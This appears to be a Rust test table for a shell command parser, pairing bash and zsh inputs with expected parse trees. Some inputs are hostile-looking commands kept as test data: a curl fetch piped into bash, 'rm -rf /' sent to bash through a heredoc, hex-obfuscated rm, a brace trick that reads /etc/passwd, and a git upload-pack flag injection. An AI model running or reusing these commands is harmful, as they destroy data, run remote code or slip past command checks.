    trailing_backslash_literal: "echo a\\" => r#"(cmd echo "a\\")"#;
    cont_in_heredoc_op: "cat <\\\n<EOF\nx\nEOF" => r#"(cmd cat (<< EOF (heredoc "EOF" d"x\n")))"#;
    cont_in_keyword: "i\\\nf true; then :; fi" => r#"(if (cmd true) (cmd :))"#;
    op_or: "a||b" => r#"(andor (cmd a) || (cmd b))"#;
    op_and: "a&&b" => r#"(andor (cmd a) && (cmd b))"#;
    op_semi: "a;b" => r#"(list (cmd a) (cmd b))"#;
    op_amp: "a&b" => r#"(list (bg (cmd a)) (cmd b))"#;
    op_pipe: "a|b" => r#"(pipe (cmd a) | (cmd b))"#;
    op_pipe_amp: "a|&b" => r#"(pipe (cmd a) |& (cmd b))"#;
    redir_write: "a >f" => r#"(cmd a (> f))"#;
    redir_append: "a >>f" => r#"(cmd a (>> f))"#;
    redir_clobber: "a >|f" => r#"(cmd a (>| f))"#;
    redir_read: "a <f" => r#"(cmd a (< f))"#;
    redir_readwrite: "a <>f" => r#"(cmd a (<> f))"#;
    redir_herestring: "a <<<w" => r#"(cmd a (<<< w))"#;
    redir_dup_in: "a <&3" => r#"(cmd a (<& &3))"#;
    redir_dup_out: "a >&2" => r#"(cmd a (>& &2))"#;
    redir_write_both: "a &>f" => r#"(cmd a (&> f))"#;
    redir_append_both: "a &>>f" => r#"(cmd a (&>> f))"#;
    redir_fd_prefix: "a 2>f" => r#"(cmd a (2> f))"#;
    redir_named_fd: "a {fd}>f" => r#"(cmd a ({fd}> f))"#;
    redir_dup_2_1: "a 2>&1" => r#"(cmd a (2>& &1))"#;
    redir_close: "a >&-" => r#"(cmd a (>& &-))"#;
    redir_move_fd: "a 3>&1-" => r#"(cmd a (3>& &1-))"#;
    redir_multi_digit_fd: "a 10>f" => r#"(cmd a (10> f))"#;
    redir_dup_to_file: "a >&file" => r#"(cmd a (>& file))"#;
    redir_digit_word_separate: "echo 2 >x" => r#"(cmd echo 2 (> x))"#;
    redir_word_digit_glued: "echo a2>x" => r#"(cmd echo a2 (> x))"#;
    redir_between_words: "a >f b" => r#"(cmd a (> f) b)"#;
    redir_first: ">f a" => r#"(cmd (> f) a)"#;
    redir_only: ">f" => r#"(cmd (> f))"#;
    redir_quoted_fd_is_word: "echo '2'>x" => r#"(cmd echo (w s"2") (> x))"#;
    redir_dup_in_close: "a <&-" => r#"(cmd a (<& &-))"#;
    metachar_no_spaces: "a;b|c&&d||e&" => r#"(list (cmd a) (bg (andor (pipe (cmd b) | (cmd c)) && (cmd d) || (cmd e))))"#;
    semicolon_newline_mix: "a;\nb\n\nc" => r#"(list (cmd a) (cmd b) (cmd c))"#;
    amp_then_cmd: "a & b" => r#"(list (bg (cmd a)) (cmd b))"#;
    pipe_newline: "a |\nb" => r#"(pipe (cmd a) | (cmd b))"#;
    and_newline: "a &&\n\nb" => r#"(andor (cmd a) && (cmd b))"#;
    reserved_as_args: "echo if then fi do done" => r#"(cmd echo if then fi do done)"#;
    reserved_assignment_name: "if=1" => r#"(cmd (= if 1))"#;
    reserved_quoted_is_command: "\"if\" true" => r#"(cmd (w d"if") true)"#;
    reserved_escaped_is_command: "\\if true" => r#"(cmd (w e"i" "f") true)"#;
    group_basic: "{ echo; }" => r#"(group (cmd echo))"#;
    brace_glued_is_word: "echo {a}" => r#"(cmd echo {a})"#;
    rbrace_as_arg: "echo }" => r#"(cmd echo })"#;
    lbrace_as_arg: "echo {" => r#"(cmd echo {)"#;
    time_keyword: "time ls" => r#"(pipe time (cmd ls))"#;
    time_posix: "time -p ls" => r#"(pipe time-p (cmd ls))"#;
    bang_pipeline: "! ls | wc" => r#"(pipe ! (cmd ls) | (cmd wc))"#;
    double_bang: "! ! ls" => r#"(pipe ! ! (cmd ls))"#;
    bang_alone: "!" => r#"(pipe !)"#;
    time_alone: "time" => r#"(pipe time)"#;
    reserved_after_assignment: "x=1 if" => r#"(cmd (= x 1) if)"#;
    in_as_argument: "echo in" => r#"(cmd echo in)"#;
    for_as_argument: "echo for" => r#"(cmd echo for)"#;
    group_newlines: "{\necho a\necho b\n}" => r#"(group (list (cmd echo a) (cmd echo b)))"#;
    time_bang_pipeline: "time ! a | b" => r#"(pipe time ! (cmd a) | (cmd b))"#;
    esac_as_argument: "echo esac" => r#"(cmd echo esac)"#;
    dbracket_as_argument: "echo [[ ]]" => r#"(cmd echo [[ ]])"#;
    double_rbracket_command: "]] x" => r#"(cmd ]] x)"#;
    backslash_letters: "echo \\a\\b" => r#"(cmd echo (w e"a" e"b"))"#;
    backslash_space: "echo a\\ b" => r#"(cmd echo (w "a" e" " "b"))"#;
    dq_escapes: "echo \"a\\b\\$c\\\"d\\\\e\\`f\"" => r#"(cmd echo (w d"a\\b" de"$" d"c" de"\"" d"d" de"\\" d"e" de"`" d"f"))"#;
    single_with_dq_inside: "echo 'a\"b'" => r#"(cmd echo (w s"a\"b"))"#;
    dq_with_single_inside: "echo \"a'b\"" => r#"(cmd echo (w d"a'b"))"#;
    ansi_simple_escapes: "echo $'\\a\\b\\e\\E\\f\\n\\r\\t\\v\\\\\\'\\\"\\?'" => r#"(cmd echo (w a"\x07\x08\x1b\x1b\x0c\n\r\t\x0b\\'\"?"))"#;
    ansi_octal_hex_unicode: "echo $'\\101\\x41\\u0041\\U00000041'" => r#"(cmd echo (w a"AAAA"))"#;
    ansi_control: "echo $'\\cA\\c?'" => r#"(cmd echo (w a"\x01\x7f"))"#;
    ansi_unknown_escape: "echo $'\\q'" => r#"(cmd echo (w a"\\q"))"#;
    ansi_nul_ends: "echo $'a\\0b'" => r#"(cmd echo (w a"a"))"#;
    ansi_x_without_digits: "echo $'\\x'" => r#"(cmd echo (w a"\\x"))"#;
    ansi_hex_one_digit: "echo $'\\x7g'" => r#"(cmd echo (w a"\x07g"))"#;
    ansi_octal_three_max: "echo $'\\1011'" => r#"(cmd echo (w a"A1"))"#;
    ansi_printable_hex: "echo $'\\x63at'" => r#"(cmd echo (w a"cat"))"#;
    locale_string: "echo $\"x $y\"" => r#"(cmd echo (w l"x " q$y))"#;
    empty_dq: "echo \"\"" => r#"(cmd echo (w d""))"#;
    empty_sq: "echo ''" => r#"(cmd echo (w s""))"#;
    dollar_alone_in_dq: "echo \"$\"" => r#"(cmd echo (w d"$"))"#;
    escaped_space_word: "echo \\ " => r#"(cmd echo (w e" "))"#;
    mixed_quotes_word: "echo a\"b\"c'd'" => r#"(cmd echo (w "a" d"b" "c" s"d"))"#;
    adjacent_dq: "echo \"a\"\"b\"" => r#"(cmd echo (w d"a" d"b"))"#;
    dq_real_newline: "echo \"a\nb\" && ls" => r#"(andor (cmd echo (w d"a\nb")) && (cmd ls))"#;
    sq_metachars: "echo ';|&<>()'" => r#"(cmd echo (w s";|&<>()"))"#;
    dq_metachars: "echo \"; | & < > ( )\"" => r#"(cmd echo (w d"; | & < > ( )"))"#;
    escaped_semicolon: "echo a\\;b" => r#"(cmd echo (w "a" e";" "b"))"#;
    escaped_pipe: "cat a \\| b" => r#"(cmd cat a (w e"|") b)"#;
    escaped_dollar: "echo \\$x" => r#"(cmd echo (w e"$" "x"))"#;
    dq_backslash_other: "echo \"\\n\"" => r#"(cmd echo (w d"\\n"))"#;
    ansi_in_dq_is_literal: "echo \"$'x'\"" => r#"(cmd echo (w d"$'x'"))"#;
    locale_in_dq_is_literal: "echo \"$\\\"x\\\"\"" => r#"(cmd echo (w d"$" de"\"" d"x" de"\""))"#;
    escaped_utf8: "echo \\é" => r#"(cmd echo (w e"é"))"#;
    utf8_word: "echo héllo wörld" => r#"(cmd echo héllo wörld)"#;
    dollar_single_quote_obfuscation: "$'\\x72\\x6d' -rf x" => r#"(cmd (w a"rm") -rf x)"#;
    comment_after_cmd: "echo a # c" => r#"(cmd echo a)"#;
    hash_mid_word: "echo a#b" => r#"(cmd echo a#b)"#;
    comment_only: "# only" => r#"(list)"#;
    comment_after_semicolon: "echo a;# c" => r#"(cmd echo a)"#;
    comment_after_paren: "(# c\nls)" => r#"(subshell (cmd ls))"#;
    dollar_hash: "echo $#" => r#"(cmd echo (w $#))"#;
    hash_in_single_quotes: "echo 'a#b'" => r#"(cmd echo (w s"a#b"))"#;
    comment_then_next_line: "echo a #c\necho b" => r#"(list (cmd echo a) (cmd echo b))"#;
    comment_with_quotes: "echo a # it's \"fine\"" => r#"(cmd echo a)"#;
    hash_after_brace: "echo {#" => r#"(cmd echo {#)"#;
    comment_after_pipe: "a | # c\nb" => r#"(pipe (cmd a) | (cmd b))"#;
    param_simple: "echo $x" => r#"(cmd echo (w $x))"#;
    param_positional_multi: "echo $10" => r#"(cmd echo (w $1 "0"))"#;
    param_braced_positional: "echo ${10}" => r#"(cmd echo (w ${10}))"#;
    param_specials: "echo $@ $* $# $? $- $$ $! $0" => r#"(cmd echo (w $@) (w $*) (w $#) (w $?) (w $-) (w $$) (w $!) (w $0))"#;
    param_braced: "echo ${x}" => r#"(cmd echo (w ${x}))"#;
    param_length: "echo ${#x}" => r#"(cmd echo (w (${ len x)))"#;
    param_indirect: "echo ${!x}" => r#"(cmd echo (w (${ indirect x)))"#;
    param_prefix_star: "echo ${!x*}" => r#"(cmd echo (w (${ indirect x prefix-list)))"#;
    param_prefix_at: "echo ${!x@}" => r#"(cmd echo (w (${ indirect x prefix-list)))"#;
    param_keys: "echo ${!arr[@]}" => r#"(cmd echo (w (${ indirect arr (sub @))))"#;
    param_subscript: "echo ${x[1]}" => r#"(cmd echo (w (${ x (sub 1))))"#;
    param_subscript_at: "echo ${x[@]}" => r#"(cmd echo (w (${ x (sub @))))"#;
    param_length_array: "echo ${#x[@]}" => r#"(cmd echo (w (${ len x (sub @))))"#;
    param_default_colon: "echo ${x:-d}" => r#"(cmd echo (w (${ x :- d)))"#;
    param_default: "echo ${x-d}" => r#"(cmd echo (w (${ x - d)))"#;
    param_assign_colon: "echo ${x:=d}" => r#"(cmd echo (w (${ x := d)))"#;
    param_assign: "echo ${x=d}" => r#"(cmd echo (w (${ x = d)))"#;
    param_error_colon: "echo ${x:?msg}" => r#"(cmd echo (w (${ x :? msg)))"#;
    param_error: "echo ${x?msg}" => r#"(cmd echo (w (${ x ? msg)))"#;
    param_alt_colon: "echo ${x:+a}" => r#"(cmd echo (w (${ x :+ a)))"#;
    param_alt: "echo ${x+a}" => r#"(cmd echo (w (${ x + a)))"#;
    param_remove_prefix: "echo ${x#a*}" => r#"(cmd echo (w (${ x # a*)))"#;
    param_remove_prefix_long: "echo ${x##*/}" => r#"(cmd echo (w (${ x ## */)))"#;
    param_remove_suffix: "echo ${x%.*}" => r#"(cmd echo (w (${ x % .*)))"#;
    param_remove_suffix_long: "echo ${x%%.*}" => r#"(cmd echo (w (${ x %% .*)))"#;
    param_replace: "echo ${x/a/b}" => r#"(cmd echo (w (${ x / a b)))"#;
    param_replace_all: "echo ${x//a/b}" => r#"(cmd echo (w (${ x // a b)))"#;
    param_replace_prefix: "echo ${x/#a/b}" => r#"(cmd echo (w (${ x /# a b)))"#;
    param_replace_suffix: "echo ${x/%a/b}" => r#"(cmd echo (w (${ x /% a b)))"#;
    param_replace_no_replacement: "echo ${x/a}" => r#"(cmd echo (w (${ x / a)))"#;
    param_upper_first: "echo ${x^}" => r#"(cmd echo (w (${ x ^ (w))))"#;
    param_upper_all: "echo ${x^^}" => r#"(cmd echo (w (${ x ^^ (w))))"#;
    param_lower_first: "echo ${x,}" => r#"(cmd echo (w (${ x , (w))))"#;
    param_lower_all: "echo ${x,,}" => r#"(cmd echo (w (${ x ,, (w))))"#;
    param_substring_offset: "echo ${x:1}" => r#"(cmd echo (w (${ x substr 1)))"#;
    param_substring_len: "echo ${x:1:2}" => r#"(cmd echo (w (${ x substr 1 2)))"#;
    param_substring_negative: "echo ${x: -1}" => r#"(cmd echo (w (${ x substr " -1")))"#;
    param_transform_q: "echo ${x@Q}" => r#"(cmd echo (w (${ x @Q)))"#;
    param_transform_p: "echo ${x@P}" => r#"(cmd echo (w (${ x @P)))"#;
    param_arg_dq: "echo ${x:-\"a b\"}" => r#"(cmd echo (w (${ x :- (w d"a b"))))"#;
    param_arg_subst: "echo ${x:-$(id)}" => r#"(cmd echo (w (${ x :- (w ($( (cmd id))))))"#;
    param_arg_sq_in_dq_literal: "echo \"${x:-'a'}\"" => r#"(cmd echo (w (q${ x :- (w d"'a'"))))"#;
    param_pattern_sq_in_dq_removed: "echo \"${x/'a'/b}\"" => r#"(cmd echo (w (q${ x / (w s"a") (w d"b"))))"#;
    param_zsh_flags: "echo ${(f)x}" => r#"(cmd echo (w (${ zsh-flags:"f" x)))"#;
    param_zsh_tilde: "echo ${~x}" => r#"(cmd echo (w (${ zsh-mod:"~" x)))"#;
    param_zsh_equals: "echo ${=x}" => r#"(cmd echo (w (${ zsh-mod:"=" x)))"#;
    param_zsh_caret: "echo ${^x}" => r#"(cmd echo (w (${ zsh-mod:"^" x)))"#;
    dollar_alone: "echo $" => r#"(cmd echo $)"#;
    dollar_percent: "echo $%" => r#"(cmd echo $%)"#;
    param_hash_name: "echo ${#}" => r#"(cmd echo (w ${#}))"#;
    param_length_at: "echo ${#@}" => r#"(cmd echo (w (${ len @)))"#;
    param_indirect_hash: "echo ${!#}" => r#"(cmd echo (w (${ indirect #)))"#;
    param_arg_nested_braces: "echo ${x:-{a}}" => r#"(cmd echo (w (${ x :- {a) "}"))"#;
    param_nested_param: "echo ${x:-${y:-z}}" => r#"(cmd echo (w (${ x :- (w (${ y :- z)))))"#;
    param_in_dq: "echo \"$x ${y}\"" => r#"(cmd echo (w q$x d" " q${y}))"#;
    param_name_then_text: "echo $x.txt" => r#"(cmd echo (w $x ".txt"))"#;
    param_dollar_dollar_name: "echo $$x" => r#"(cmd echo (w $$ "x"))"#;
    param_ifs: "cat${IFS}x" => r#"(cmd (w "cat" ${IFS} "x"))"#;
    param_arg_with_spaces: "echo ${x:-a b c}" => r#"(cmd echo (w (${ x :- "a b c")))"#;
    subst_simple: "echo $(ls)" => r#"(cmd echo (w ($( (cmd ls))))"#;
    subst_case_paren: "echo $(case x in a) b;; esac)" => r#"(cmd echo (w ($( (case x (a) (cmd b) ;;))))"#;
    subst_quoted_paren: "echo $(echo \")\")" => r#"(cmd echo (w ($( (cmd echo (w d")")))))"#;
    subst_subshell_inside: "echo $( (ls) )" => r#"(cmd echo (w ($( (subshell (cmd ls)))))"#;
    backtick_simple: "echo `ls`" => r#"(cmd echo (w (` (cmd ls))))"#;
    backtick_nested: "echo `echo \\`a\\``" => r#"(cmd echo (w (` (cmd echo (w (` (cmd a)))))))"#;
    backtick_dq_escape: "echo \"`echo \\\"x\\\"`\"" => r#"(cmd echo (w (q` (cmd echo (w d"x")))))"#;
    backtick_dollar_escape: "echo `echo \\$x`" => r#"(cmd echo (w (` (cmd echo (w $x)))))"#;
    subst_nested: "echo $(echo $(echo a))" => r#"(cmd echo (w ($( (cmd echo (w ($( (cmd echo a)))))))"#;
    subst_comment: "echo $(ls # comment\n)" => r#"(cmd echo (w ($( (cmd ls))))"#;
    subst_in_dq: "echo \"$(ls)\"" => r#"(cmd echo (w (q$( (cmd ls))))"#;
    subst_empty: "echo $()" => r#"(cmd echo (w ($( (list))))"#;
    subst_multiline: "x=$(\nls\npwd\n)" => r#"(cmd (= x (w ($( (list (cmd ls) (cmd pwd))))))"#;
    subst_pipeline: "echo $(ls | wc -l)" => r#"(cmd echo (w ($( (pipe (cmd ls) | (cmd wc -l)))))"#;
    subst_as_command: "$(echo ls) -l" => r#"(cmd (w ($( (cmd echo ls))) -l)"#;
    subst_case_with_paren_pattern: "echo $(case x in (a) b;; esac)" => r#"(cmd echo (w ($( (case x (a) (cmd b) ;;))))"#;
    backtick_in_word: "a`b`c" => r#"(cmd (w "a" (` (cmd b)) "c"))"#;
    backtick_backslash_other: "echo `echo \\a`" => r#"(cmd echo (w (` (cmd echo (w e"a")))))"#;
    subst_in_assignment_value: "x=$(id) y=`id`" => r#"(cmd (= x (w ($( (cmd id)))) (= y (w (` (cmd id)))))"#;
    subst_in_redir_target: "ls > $(mktemp)" => r#"(cmd ls (> (w ($( (cmd mktemp)))))"#;
    subst_hidden_rm: "echo \"$(rm -rf ./x)\"" => r#"(cmd echo (w (q$( (cmd rm -rf ./x))))"#;
    subst_heredoc_literal: "git commit -m \"$(cat <<'EOF'\nfix\nEOF\n)\"" => r#"(cmd git commit -m (w (q$( (cmd cat (<< (w s"EOF") (heredoc "EOF" quoted s"fix\n"))))))"#;
    arith_expansion: "echo $((1+2))" => r#"(cmd echo (w ($(( 1+2)))"#;
    arith_with_subst: "echo $(( $(id) + 1 ))" => r#"(cmd echo (w ($(( (w " " ($( (cmd id)) " + 1 "))))"#;
    arith_subscript_subst: "echo $((x[$(id)]))" => r#"(cmd echo (w ($(( (w "x[" ($( (cmd id)) "]"))))"#;
    arith_bracket: "echo $[1+2]" => r#"(cmd echo (w ($[ 1+2)))"#;
    arith_command: "((x++))" => r#"(arith x++)"#;
    arith_command_parens: "(( a = (1+2) ))" => r#"(arith " a = (1+2) ")"#;
    arith_fallback_subst: "echo $((ls) )" => r#"(cmd echo (w ($( (subshell (cmd ls)))))"#;
    arith_fallback_subshells: "((ls); (pwd))" => r#"(subshell (list (subshell (cmd ls)) (subshell (cmd pwd))))"#;
    arith_for_empty: "for ((;;)); do :; done" => r#"(arith-for (w) (w) (w) (cmd :))"#;
    arith_for_full: "for ((i=0; i<3; i++)); do echo $i; done" => r#"(arith-for i=0 " i<3" " i++" (cmd echo (w $i)))"#;
    arith_for_brace_body: "for ((i=0;i<3;i++)) { echo; }" => r#"(arith-for i=0 i<3 i++ (cmd echo))"#;
    subscript_assignment_subst: "a[$(id)]=1" => r#"(cmd (= a (sub (w ($( (cmd id)))) 1))"#;
    arith_quotes: "echo $(( \"1\" + 2 ))" => r#"(cmd echo (w ($(( (w " " d"1" " + 2 "))))"#;
    arith_in_dq: "echo \"$((1+2))\"" => r#"(cmd echo (w (q$(( 1+2)))"#;
    arith_nested: "echo $(( $((1)) + 2 ))" => r#"(cmd echo (w ($(( (w " " ($(( 1) " + 2 "))))"#;
    arith_param: "echo $(( x + ${y:-1} ))" => r#"(cmd echo (w ($(( (w " x + " (${ y :- 1) " "))))"#;
    arith_command_redirect: "(( x )) > f" => r#"(redirected (arith " x ") (> f))"#;
    arith_spaces_parens: "echo $(( (1+2) * 3 ))" => r#"(cmd echo (w ($(( " (1+2) * 3 ")))"#;
    procsubst_in: "diff <(ls) <(ls -a)" => r#"(cmd diff (w (<( (cmd ls))) (w (<( (cmd ls -a))))"#;
    procsubst_out: "tee >(cat)" => r#"(cmd tee (w (>( (cmd cat))))"#;
    procsubst_after_redirect: "cat < <(ls)" => r#"(cmd cat (< (w (<( (cmd ls)))))"#;
    procsubst_zsh_equals: "diff =(ls) x" => r#"(cmd diff (w (=( (cmd ls))) x)"#;
    procsubst_mid_word: "echo a<(b)" => r#"(cmd echo (w "a" (<( (cmd b))))"#;
    procsubst_curl: "bash <(curl -s x)" => r#"(cmd bash (w (<( (cmd curl -s x))))"#;
    heredoc_basic: "cat <<EOF\nhello\nEOF" => r#"(cmd cat (<< EOF (heredoc "EOF" d"hello\n")))"#;
    heredoc_two_on_line: "cat <<A <<B\na\nA\nb\nB" => r#"(cmd cat (<< A (heredoc "A" d"a\n")) (<< B (heredoc "B" d"b\n")))"#;
    heredoc_two_commands: "cat <<A; cat <<B\na\nA\nb\nB" => r#"(list (cmd cat (<< A (heredoc "A" d"a\n"))) (cmd cat (<< B (heredoc "B" d"b\n"))))"#;
    heredoc_strip_tabs: "cat <<-EOF\n\ta\n\t\tb\n\tEOF" => r#"(cmd cat (<<- EOF (heredoc "EOF" strip d"a\nb\n")))"#;
    heredoc_quoted_single: "cat <<'EOF'\n$x\nEOF" => r#"(cmd cat (<< (w s"EOF") (heredoc "EOF" quoted s"$x\n")))"#;
    heredoc_quoted_double: "cat <<\"EOF\"\n$x\nEOF" => r#"(cmd cat (<< (w d"EOF") (heredoc "EOF" quoted s"$x\n")))"#;
    heredoc_quoted_backslash: "cat <<\\EOF\n$x\nEOF" => r#"(cmd cat (<< (w e"E" "OF") (heredoc "EOF" quoted s"$x\n")))"#;
    heredoc_quoted_partial: "cat <<E\"O\"F\n$x\nEOF" => r#"(cmd cat (<< (w "E" d"O" "F") (heredoc "EOF" quoted s"$x\n")))"#;
    heredoc_expansions: "cat <<EOF\n$x $(id) `id` \\$y \"q\" 'q'\nEOF" => r#"(cmd cat (<< EOF (heredoc "EOF" q$x d" " (q$( (cmd id)) d" " (q` (cmd id)) d" " de"$" d"y \"q\" 'q'\n")))"#;
    heredoc_in_pipeline: "cat <<EOF | grep x\nx\nEOF" => r#"(pipe (cmd cat (<< EOF (heredoc "EOF" d"x\n"))) | (cmd grep x))"#;
    heredoc_then_command: "cat <<EOF\nx\nEOF\necho after" => r#"(list (cmd cat (<< EOF (heredoc "EOF" d"x\n"))) (cmd echo after))"#;
    heredoc_in_subst: "x=$(cat <<EOF\nhi\nEOF\n)" => r#"(cmd (= x (w ($( (cmd cat (<< EOF (heredoc "EOF" d"hi\n")))))))"#;
    heredoc_delim_at_eof: "cat <<EOF\nx\nEOF" => r#"(cmd cat (<< EOF (heredoc "EOF" d"x\n")))"#;
    heredoc_empty_body: "cat <<EOF\nEOF" => r#"(cmd cat (<< EOF (heredoc "EOF")))"#;
    heredoc_empty_delimiter: "cat <<''\nx\n\n" => r#"(cmd cat (<< (w s"") (heredoc "" quoted s"x\n")))"#;
    heredoc_not_ended_by_prefix: "cat <<EOF\nEOFX\nEOF" => r#"(cmd cat (<< EOF (heredoc "EOF" d"EOFX\n")))"#;
    heredoc_strip_tabs_quoted: "cat <<-'E'\n\t$x\n\tE" => r#"(cmd cat (<<- (w s"E") (heredoc "E" quoted strip s"$x\n")))"#;
    heredoc_to_shell: "bash <<'EOF'\nrm -rf /\nEOF" => r#"(cmd bash (<< (w s"EOF") (heredoc "EOF" quoted s"rm -rf /\n")))"#;
    heredoc_with_fd: "cat 3<<EOF\nx\nEOF" => r#"(cmd cat (3<< EOF (heredoc "EOF" d"x\n")))"#;
    herestring_word: "cat <<< hello" => r#"(cmd cat (<<< hello))"#;
    herestring_quoted: "cat <<< \"$x y\"" => r#"(cmd cat (<<< (w q$x d" y")))"#;
    heredoc_in_compound: "while read l; do echo $l; done <<EOF\na\nEOF" => r#"(redirected (while (cmd read l) (cmd echo (w $l))) (<< EOF (heredoc "EOF" d"a\n")))"#;
    heredoc_body_with_dollar_literal: "cat <<EOF\ncost: 5$\nEOF" => r#"(cmd cat (<< EOF (heredoc "EOF" d"cost: 5$\n")))"#;
    heredoc_body_backslash_other: "cat <<EOF\na\\nb\nEOF" => r#"(cmd cat (<< EOF (heredoc "EOF" d"a\\nb\n")))"#;
    heredoc_delimiter_with_spaces_line: "cat <<EOF\n EOF\nEOF" => r#"(cmd cat (<< EOF (heredoc "EOF" d" EOF\n")))"#;
    brace_alternatives: "echo {a,b}" => r#"(cmd echo (w (brace "a" "b")))"#;
    brace_letters: "echo {a..e}" => r#"(cmd echo (w (seq a e)))"#;
    brace_step: "echo {1..10..2}" => r#"(cmd echo (w (seq 1 10 2)))"#;
    brace_zero_pad: "echo {01..03}" => r#"(cmd echo (w (seq 01 03)))"#;
    brace_prefix_suffix: "echo a{b,c}d" => r#"(cmd echo (w "a" (brace "b" "c") "d"))"#;
    brace_product: "echo {a,b}{c,d}" => r#"(cmd echo (w (brace "a" "b") (brace "c" "d")))"#;
    brace_nested: "echo {a,{b,c}}" => r#"(cmd echo (w (brace "a" (brace "b" "c"))))"#;
    brace_empty: "echo {}" => r#"(cmd echo {})"#;
    brace_single: "echo {a}" => r#"(cmd echo {a})"#;
    brace_empty_alts: "echo a{,}" => r#"(cmd echo (w "a" (brace "" "")))"#;
    brace_quoted: "echo \"{a,b}\"" => r#"(cmd echo (w d"{a,b}"))"#;
    brace_escaped_open: "echo \\{a,b}" => r#"(cmd echo (w e"{" "a,b}"))"#;
    brace_escaped_comma: "echo {a\\,b}" => r#"(cmd echo (w "{a" e"," "b}"))"#;
    brace_inner_valid: "echo {x{a,b}}" => r#"(cmd echo (w "{x" (brace "a" "b") "}"))"#;
    brace_unclosed: "echo {a,b" => r#"(cmd echo {a,b)"#;
    brace_in_assignment_literal: "x={a,b}" => r#"(cmd (= x {a,b}))"#;
    brace_in_assignment_like_arg: "echo x={a,b}" => r#"(cmd echo (w "x=" (brace "a" "b")))"#;
    brace_negative_seq: "echo {-1..2}" => r#"(cmd echo (w (seq -1 2)))"#;
    brace_invalid_seq_mixed: "echo {a..1}" => r#"(cmd echo {a..1})"#;
    brace_invalid_seq_step: "echo {1..2..}" => r#"(cmd echo {1..2..})"#;
    brace_with_param: "echo {$x,y}" => r#"(cmd echo (w (brace $x "y")))"#;
    brace_with_quoted_alt: "echo {\"a b\",c}" => r#"(cmd echo (w (brace d"a b" "c")))"#;
    brace_then_param: "echo {a,b}$x" => r#"(cmd echo (w (brace "a" "b") $x))"#;
    brace_in_command_name: "{cat,/etc/passwd}" => r#"(cmd (w (brace "cat" "/etc/passwd")))"#;
    brace_flag_injection: "git ls-remote {--upload-pack=touch\\ x,y}" => r#"(cmd git ls-remote (w (brace ("--upload-pack=touch" e" " "x") "y")))"#;
    brace_json_quoted: "curl -d '{\"k\":\"v\"}' x" => r#"(cmd curl -d (w s"{\"k\":\"v\"}") x)"#;
    brace_mkdir: "mkdir -p src/{a,b}" => r#"(cmd mkdir -p (w "src/" (brace "a" "b")))"#;
    brace_find_placeholder: "find . -exec rm {} \\;" => r#"(cmd find . -exec rm {} (w e";"))"#;
    brace_quoted_comma: "echo {a\",\"b}" => r#"(cmd echo (w "{a" d"," "b}"))"#;
    brace_seq_descending: "echo {5..1}" => r#"(cmd echo (w (seq 5 1)))"#;
    brace_three_alts_nested_seq: "echo {a,{1..2},c}" => r#"(cmd echo (w (brace "a" (seq 1 2) "c")))"#;
    brace_unmatched_close: "echo a}b" => r#"(cmd echo a}b)"#;
    brace_double_open: "echo {{a,b}" => r#"(cmd echo (w "{" (brace "a" "b")))"#;
    brace_in_for_list: "for f in {a,b}.txt; do :; done" => r#"(for f (in (w (brace "a" "b") ".txt")) (cmd :))"#;
    brace_in_array: "a=({x,y})" => r#"(cmd (= a (array (w (brace "x" "y")))))"#;
    glob_star: "ls *.txt" => r#"(cmd ls (w (glob "*") ".txt"))"#;
    glob_question: "ls a?b" => r#"(cmd ls (w "a" (glob "?") "b"))"#;
    glob_bracket: "ls [abc]" => r#"(cmd ls (w (glob "[abc]")))"#;
    glob_bracket_negated: "ls [!a]x" => r#"(cmd ls (w (glob "[!a]") "x"))"#;
    glob_bracket_class: "ls [[:alpha:]]" => r#"(cmd ls (w (glob "[[:alpha:]]")))"#;
    glob_unclosed_bracket: "echo [a" => r#"(cmd echo [a)"#;
    glob_quoted_star: "ls '*'" => r#"(cmd ls (w s"*"))"#;
    glob_escaped_star: "ls \\*" => r#"(cmd ls (w e"*"))"#;
    glob_url_question: "curl http://x/?a=b" => r#"(cmd curl (w "http://x/" (glob "?") "a=b"))"#;
    extglob_at: "ls @(a|b)" => r#"(cmd ls (w (extglob @ "a|b")))"#;
    extglob_bang: "ls !(x)" => r#"(cmd ls (w (extglob ! "x")))"#;
    extglob_plus: "ls +(a)" => r#"(cmd ls (w (extglob + "a")))"#;
    extglob_star: "ls *(a)" => r#"(cmd ls (w (extglob * "a") zsh:GlobQualifier))"#;
    extglob_question: "ls ?(a)" => r#"(cmd ls (w (extglob ? "a") zsh:GlobQualifier))"#;
    extglob_nested: "ls @(a|*(b))" => r#"(cmd ls (w (extglob @ "a|" (extglob * "b"))))"#;
    extglob_with_space: "ls @(a b)" => r#"(cmd ls (w (extglob @ "a b")))"#;
    tilde_alone: "cd ~" => r#"(cmd cd (w ~))"#;
    tilde_path: "cat ~/x" => r#"(cmd cat (w ~ "/x"))"#;
    tilde_user: "cat ~user/x" => r#"(cmd cat (w ~user "/x"))"#;
    tilde_plus_minus: "echo ~+ ~-" => r#"(cmd echo (w ~+) (w ~-))"#;
    tilde_not_at_start: "echo a~" => r#"(cmd echo a~)"#;
    tilde_quoted: "echo \"~\"" => r#"(cmd echo (w d"~"))"#;
    tilde_assignment: "x=~/a" => r#"(cmd (= x (w ~ "/a")))"#;
    tilde_assignment_colon: "PATH=a:~/b" => r#"(cmd (= PATH (w "a:" ~ "/b")))"#;
    tilde_assignment_like_arg: "echo a=~/x" => r#"(cmd echo (w "a=" ~ "/x"))"#;
    tilde_quoted_user: "echo ~'x'" => r#"(cmd echo (w "~" s"x"))"#;
    tilde_mid_arg: "echo x:~/y" => r#"(cmd echo x:~/y)"#;
    assign_simple: "a=1" => r#"(cmd (= a 1))"#;
    assign_subscript: "a[1]=2" => r#"(cmd (= a (sub 1) 2))"#;
    assign_append: "a+=3" => r#"(cmd (+= a 3))"#;
    assign_array: "a=(1 2)" => r#"(cmd (= a (array 1 2)))"#;
    assign_empty_array: "a=()" => r#"(cmd (= a (array)))"#;
    assign_array_comment: "a=(# c\n1)" => r#"(cmd (= a (array 1)))"#;
    assign_array_keys: "a=([k]=v [j]=w)" => r#"(cmd (= a (array (w (glob "[k]") "=v") (w (glob "[j]") "=w"))))"#;
    assign_empty: "a=" => r#"(cmd (= a (w)))"#;
    assign_prefix: "LD_PRELOAD=./x.so ls" => r#"(cmd (= LD_PRELOAD ./x.so) ls)"#;
    assign_multiple_prefix: "A=1 B=2 cmd arg" => r#"(cmd (= A 1) (= B 2) cmd arg)"#;
    assign_after_word_is_arg: "cmd A=1" => r#"(cmd cmd A=1)"#;
    assign_quoted_value: "a=\"x y\"" => r#"(cmd (= a (w d"x y")))"#;
    assign_subscript_append: "a[0]+=x" => r#"(cmd (+= a (sub 0) x))"#;
